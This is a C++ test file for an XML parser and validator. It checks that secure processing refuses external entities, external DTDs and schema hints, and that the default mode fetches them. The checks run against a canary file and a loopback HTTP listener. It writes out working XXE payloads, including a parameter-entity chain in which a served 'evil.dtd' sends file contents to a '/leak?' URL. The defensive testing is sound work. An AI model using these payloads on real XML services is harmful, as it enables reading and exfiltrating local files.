// External entities, DTDs and schema hints against a canary file and an HTTP listener on
// 127.0.0.1: the default mode fetches them (recorded here as it is), secure processing
// opens none of them and says so.

#include "HostileSupport.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>

#include <atomic>
#include <mutex>
#include <thread>
#include <vector>

using hostile::Outcome;

namespace {

const char CANARY[] = "CANARY-7f3a9c";

// A one-thread HTTP/1.0 server on 127.0.0.1 that records request lines. It serves at most
// MAX_REQUESTS, waits at most LIFETIME_MS in all, and stops by itself or when destroyed.
class Listener {
public:
    static constexpr int MAX_REQUESTS = 64;
    static constexpr int LIFETIME_MS = 120000;

    Listener()
    {
        fd = socket(AF_INET, SOCK_STREAM, 0);
        sockaddr_in address{};
        address.sin_family = AF_INET;
        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        address.sin_port = 0;
        if (fd < 0 || bind(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0 || listen(fd, 8) != 0)
            return;
        socklen_t length = sizeof address;
        getsockname(fd, reinterpret_cast<sockaddr*>(&address), &length);
        port = ntohs(address.sin_port);
        worker = std::thread([this] { serve(); });
    }
    Listener(const Listener&) = delete;
    Listener& operator=(const Listener&) = delete;
    ~Listener()
    {
        stop = true;
        if (worker.joinable())
            worker.join();
        if (fd >= 0)
            close(fd);
    }

    std::string base() const { return "http://127.0.0.1:" + std::to_string(port); }
    int getPort() const { return port; }
    std::vector<std::string> requests()
    {
        std::lock_guard<std::mutex> lock(mutex);
        return seen;
    }

private:
    void serve()
    {
        const auto deadline = std::chrono::steady_clock::now() + std::chrono::milliseconds(LIFETIME_MS);
        int served = 0;
        while (!stop && served < MAX_REQUESTS && std::chrono::steady_clock::now() < deadline) {
            pollfd p{fd, POLLIN, 0};
            if (poll(&p, 1, 50) <= 0)
                continue;
            const int client = accept(fd, nullptr, nullptr);
            if (client < 0)
                continue;
            ++served;
            handle(client);
            close(client);
        }
    }

    void handle(int client)
    {
        std::string request;
        char buffer[2048];
        for (int round = 0; round < 40 && request.find("\r\n\r\n") == std::string::npos; ++round) {
            pollfd p{client, POLLIN, 0};
            if (poll(&p, 1, 50) <= 0)
                continue;
            const ssize_t n = recv(client, buffer, sizeof buffer, 0);
            if (n <= 0)
                break;
            request.append(buffer, static_cast<std::size_t>(n));
        }
        const std::string line = request.substr(0, request.find("\r\n"));
        {
            std::lock_guard<std::mutex> lock(mutex);
            seen.push_back(line);
        }
        std::string body = "FROM-HTTP";
        if (line.find("/evil.dtd") != std::string::npos)
            body = "<!ENTITY % all \"<!ENTITY send SYSTEM '" + base() + "/leak?%file;'>\"> %all;";
        else if (line.find(".dtd") != std::string::npos)
            body = "<!ENTITY y 'FROM-HTTP-DTD'>";
        else if (line.find(".xsd") != std::string::npos)
            body = "<xs:schema xmlns:xs='http://www.w3.org/2001/XMLSchema'/>";
        const std::string response =
            "HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\nContent-Length: " + std::to_string(body.size()) +
            "\r\nConnection: close\r\n\r\n" + body;
        send(client, response.data(), response.size(), MSG_NOSIGNAL);
    }

    int fd = -1;
    int port = 0;
    std::atomic<bool> stop{false};
    std::thread worker;
    std::mutex mutex;
    std::vector<std::string> seen;
};

struct Attack {
    const char* name;
    std::string document;
    const char* refusal; // what secure processing logs, for parser and validator
    bool parserFetches;  // the default parser opens it (the external DTD subset it never does)
};

std::vector<Attack> attacks(const std::string& canaryUrl, const std::string& http)
{
    return {
        {"file-general-entity", "<!DOCTYPE r [<!ENTITY x SYSTEM '" + canaryUrl + "'>]><r>&x;</r>",
         "external entity 'x' refused (SYSTEM 'file://", true},
        {"http-general-entity", "<!DOCTYPE r [<!ENTITY x SYSTEM '" + http + "/entity'>]><r>&x;</r>",
         "external entity 'x' refused (SYSTEM 'http://127.0.0.1:", true},
        {"public-general-entity", "<!DOCTYPE r [<!ENTITY x PUBLIC '-//X//Y' '" + http + "/public'>]><r>&x;</r>",
         "external entity 'x' refused (PUBLIC '-//X//Y' SYSTEM 'http://", true},
        {"parameter-entity-exfiltration",
         "<!DOCTYPE r [<!ENTITY % file SYSTEM '" + canaryUrl + "'><!ENTITY % dtd SYSTEM '" + http +
             "/evil.dtd'>%dtd;]><r>&send;</r>",
         "external parameter entity '%dtd' refused (SYSTEM 'http://", true},
        {"external-dtd", "<!DOCTYPE r SYSTEM '" + http + "/ext.dtd'><r>&y;</r>",
         "external DTD refused (SYSTEM 'http://", false},
    };
}

bool contains(const std::string& haystack, const std::string& needle)
{
    return haystack.find(needle) != std::string::npos;
}

std::string joined(const std::vector<std::string>& lines)
{
    std::string out;
    for (const std::string& l : lines)
        out += l + "\n";
    return out;
}

} // namespace

TEST(ExternalResources, SecureProcessingOpensNothingTheDocumentNames)
{
    hostile::ScratchDir dir;
    const std::string canary = dir.write("canary.txt", CANARY);
    Listener listener;
    ASSERT_NE(0, listener.getPort());
    std::size_t refusals = 0;
    for (const Attack& a : attacks("file://" + canary, listener.base())) {
        const std::string path = dir.write(std::string(a.name) + ".xml", a.document);
        const Outcome s = hostile::parseString(a.document, true);
        const Outcome f = hostile::parseFile(path, true);
        const Outcome v = hostile::validate(path, true);
        for (const Outcome* o : {&s, &f}) {
            EXPECT_FALSE(contains(o->trace, CANARY)) << a.name;
            EXPECT_FALSE(contains(o->trace, "FROM-HTTP")) << a.name;
            if (a.parserFetches) {
                EXPECT_TRUE(contains(o->exception, "[ZSAX_F0005] Failed to parse XML file: ")) << a.name;
                EXPECT_TRUE(contains(o->log, a.refusal)) << a.name << "\n" << o->log;
                ++refusals;
            }
        }
        EXPECT_FALSE(v.valid) << a.name;
        EXPECT_TRUE(contains(v.log, a.refusal)) << a.name << "\n" << v.log;
        ++refusals;
        std::printf("[ secure   ] %-36s %s", a.name, f.log.empty() ? v.log.c_str() : f.log.c_str());
    }
    EXPECT_EQ(13u, refusals);
    // Records carry the position of the reference.
    const Outcome o =
        hostile::parseString("<!DOCTYPE r [<!ENTITY x SYSTEM 'file://" + canary + "'>]>\n<r>\n &x;</r>", true);
    EXPECT_TRUE(
        contains(o.log, "WARNING ZSAX_W0001 (3:5): external entity 'x' refused (SYSTEM 'file://" + canary + "')"))
        << o.log;
    EXPECT_EQ(0u, listener.requests().size()) << joined(listener.requests());
}

TEST(ExternalResources, SecureValidatorRefusesSchemaHintsButOpensItsOwnSchema)
{
    hostile::ScratchDir dir;
    Listener listener;
    ASSERT_NE(0, listener.getPort());
    dir.write("types.xsd", "<xs:schema xmlns:xs='http://www.w3.org/2001/XMLSchema' targetNamespace='urn:o' "
                           "xmlns:o='urn:o'><xs:simpleType name='t'><xs:restriction base='xs:string'>"
                           "<xs:maxLength value='3'/></xs:restriction></xs:simpleType></xs:schema>");
    const std::string schema = dir.write(
        "order.xsd", "<xs:schema xmlns:xs='http://www.w3.org/2001/XMLSchema' targetNamespace='urn:o' xmlns:o='urn:o' "
                     "elementFormDefault='qualified'><xs:include schemaLocation='types.xsd'/>"
                     "<xs:element name='r' type='o:t'/></xs:schema>");
    const std::string good = dir.write("good.xml", "<r xmlns='urn:o'>abc</r>");
    const std::string bad = dir.write("bad.xml", "<r xmlns='urn:o'>abcd</r>");
    const std::string hinted =
        dir.write("hinted.xml",
                  "<r xmlns='urn:o' xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='urn:h " +
                      listener.base() + "/hint.xsd'>abc</r>");
    const std::string noNamespaceHint =
        dir.write("nn.xml", "<r xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:noNamespaceSchemaLocation='" +
                                listener.base() + "/nn.xsd'>abc</r>");

    for (bool secure : {false, true}) {
        EXPECT_TRUE(hostile::validate(good, secure, "urn:o", schema).valid) << secure;
        EXPECT_FALSE(hostile::validate(bad, secure, "urn:o", schema).valid) << secure;
    }
    const Outcome h = hostile::validate(hinted, true, "urn:o", schema);
    EXPECT_FALSE(h.valid);
    EXPECT_TRUE(contains(h.log, "schema hint for namespace 'urn:h' refused (SYSTEM 'http://127.0.0.1:")) << h.log;
    const Outcome n = hostile::validate(noNamespaceHint, true);
    EXPECT_FALSE(n.valid);
    EXPECT_TRUE(contains(n.log, "(1:")) << n.log;
    EXPECT_TRUE(contains(n.log, "schema hint without namespace refused (SYSTEM 'http://127.0.0.1:")) << n.log;
    EXPECT_EQ(0u, listener.requests().size()) << joined(listener.requests());

    // The default mode follows both hints (the schemas served here do not fit, which
    // shows they were read).
    const Outcome openHinted = hostile::validate(hinted, false, "urn:o", schema);
    const Outcome openNoNamespace = hostile::validate(noNamespaceHint, false);
    std::printf("[ default  ] hints:\n%s%s", openHinted.log.c_str(), openNoNamespace.log.c_str());
    EXPECT_EQ(2u, listener.requests().size()) << joined(listener.requests());
}

TEST(ExternalResources, SecureValidatorFailsClosedWithoutItsSchema)
{
    hostile::ScratchDir dir;
    const std::string doc = dir.write("doc.xml", "<r xmlns='urn:o'><anything/></r>");
    const std::string missing = dir.file("missing.xsd");
    const std::string broken = dir.write("broken.xsd", "<xs:schema xmlns:xs='http://www.w3.org/2001/XMLSchema'");
    const std::string otherNamespace =
        dir.write("other.xsd", "<xs:schema xmlns:xs='http://www.w3.org/2001/XMLSchema' targetNamespace='urn:other'/>");
    for (const std::string& schema : {missing, broken, otherNamespace}) {
        const Outcome open = hostile::validate(doc, false, "urn:o", schema);
        const Outcome closed = hostile::validate(doc, true, "urn:o", schema);
        std::printf("[ schema   ] %s\n  default: %s  secure: %s", schema.c_str(), open.log.c_str(), closed.log.c_str());
        EXPECT_FALSE(closed.valid) << schema;
        EXPECT_TRUE(contains(closed.log, "(1:")) << closed.log;
    }
    // Today's default answer for a schema that cannot be opened: one warning at 0:0, valid.
    const Outcome open = hostile::validate(doc, false, "urn:o", missing);
    EXPECT_TRUE(open.valid);
    EXPECT_TRUE(contains(open.log, "WARNING ZSAX_W0001 (0:0): ")) << open.log;
    const Outcome closed = hostile::validate(doc, true, "urn:o", missing);
    EXPECT_TRUE(contains(closed.log, "schema '" + missing + "' for namespace 'urn:o' could not be loaded"))
        << closed.log;
}

TEST(ExternalResources, DefaultModeFetchesWhatTheDocumentNames)
{
    hostile::ScratchDir dir;
    const std::string canary = dir.write("canary.txt", CANARY);
    Listener listener;
    ASSERT_NE(0, listener.getPort());
    const std::vector<Attack> all = attacks("file://" + canary, listener.base());

    // A local file's bytes arrive as character data, through both inputs.
    const std::string fileDoc = dir.write("file.xml", all[0].document);
    EXPECT_EQ(std::string("(r \"") + CANARY + "\")r", hostile::parseString(all[0].document, false).trace);
    EXPECT_EQ(std::string("(r \"") + CANARY + "\")r", hostile::parseFile(fileDoc, false).trace);
    // So does a relative reference, taken from the document's directory.
    const std::string relative = dir.write("relative.xml", "<!DOCTYPE r [<!ENTITY x SYSTEM 'canary.txt'>]><r>&x;</r>");
    EXPECT_EQ(std::string("(r \"") + CANARY + "\")r", hostile::parseFile(relative, false).trace);

    // An http entity is fetched.
    EXPECT_EQ("(r \"FROM-HTTP\")r", hostile::parseString(all[1].document, false).trace);
    // A parameter entity sends the canary to the server in a URL.
    hostile::parseString(all[3].document, false);
    // The parser never loads the external DTD subset; the validator does.
    hostile::parseString(all[4].document, false);
    const Outcome v = hostile::validate(dir.write("dtd.xml", all[4].document), false);
    std::printf("[ default  ] external DTD through the validator: %s", v.log.c_str());

    const std::string requests = joined(listener.requests());
    std::printf("[ default  ] requests received:\n%s", requests.c_str());
    EXPECT_TRUE(contains(requests, "GET /entity ")) << requests;
    EXPECT_TRUE(contains(requests, "GET /evil.dtd ")) << requests;
    EXPECT_TRUE(contains(requests, std::string("GET /leak?") + CANARY)) << requests;
    EXPECT_TRUE(contains(requests, "GET /ext.dtd ")) << requests;
    EXPECT_EQ(4u, listener.requests().size()) << requests;
}
